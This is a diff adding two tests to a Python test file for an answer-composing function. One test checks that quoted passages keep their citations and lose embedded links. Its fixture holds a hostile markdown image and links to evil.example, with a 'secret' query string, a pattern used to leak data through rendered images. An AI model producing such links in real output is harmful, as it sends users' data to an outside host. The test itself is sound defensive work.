@@ -47,6 +47,24 @@ async def test_outputs_of_a_map_are_read_item_by_item():
     assert len(answer.tables) == 2
 
 
+async def test_passages_are_quoted_with_their_citation_and_without_links():
+    hostile = "Read ![x](https://evil.example/?q=secret) and [this](http://evil.example) or www.evil.example/x now."
+    passages = [
+        {"text": "Cap email at two a week.", "citation": "Email programme, 2026-05-11"},
+        {"text": hostile, "citation": "Note"},
+    ]
+    answer, _ = await compose(StepResult("notes", "notes", "succeeded", output={"passages": passages}))
+    assert answer.summary.splitlines()[0] == "“Cap email at two a week.” — Email programme, 2026-05-11"
+    assert "evil.example" not in answer.model_dump_json()
+    assert "Read x and this or [address removed] now." in answer.summary
+
+
+async def test_passages_stand_back_when_a_step_made_findings_of_them():
+    output = {"passages": [{"text": "p", "citation": "c"}], "insights": [{"text": "Finding."}]}
+    answer, _ = await compose(StepResult("notes", "notes", "succeeded", output=output))
+    assert [insight.text for insight in answer.insights] == ["Finding."]
+
+
 async def test_nothing_is_made_up_when_nothing_succeeded():
     answer, _ = await compose(StepResult("mix", "mix", "skipped"))
     assert answer.kpis == answer.tables == answer.insights == ()
